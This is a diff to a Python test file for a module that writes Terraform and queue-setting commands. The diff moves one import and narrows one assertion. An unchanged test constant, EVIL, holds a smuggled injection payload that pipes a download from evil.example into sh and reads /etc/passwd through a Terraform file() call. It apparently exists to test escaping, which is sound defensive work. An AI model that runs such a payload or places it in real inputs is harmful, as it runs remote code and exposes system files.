@@ -11,11 +11,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from functions.healing.change_lines import set_command, terraform_name, with_unit
+from functions.healing.change_lines import terraform_name, with_unit
 from functions.healing.every_step import STEPS
 from functions.healing.examples import QUEUE_ARN
 from functions.healing.queue_names import arn_of_url, public_url
 from functions.healing.states import State
+from functions.healing.write_commands import set_command
 from tests.functions.healing.cases_to_page import paged, section
 
 EVIL = '{"a":"x\'; curl https://evil.example | sh; \'${file(\\"/etc/passwd\\")}"}'
@@ -80,7 +81,7 @@ def test_every_setting_that_can_be_changed_has_its_name_in_terraform() -> None:
     read_only = {"All", "QueueArn", "FifoQueue", "CreatedTimestamp", "LastModifiedTimestamp"}
     settable = {each for each in names - read_only if not each.startswith("Approximate")}
     assert {each for each in names if terraform_name(each)} == settable
-    assert {each.attribute for each in STEPS} <= settable
+    assert {each.attribute for each in STEPS if not each.is_kept} <= settable
     assert terraform_name("QueueArn") is None
 
 
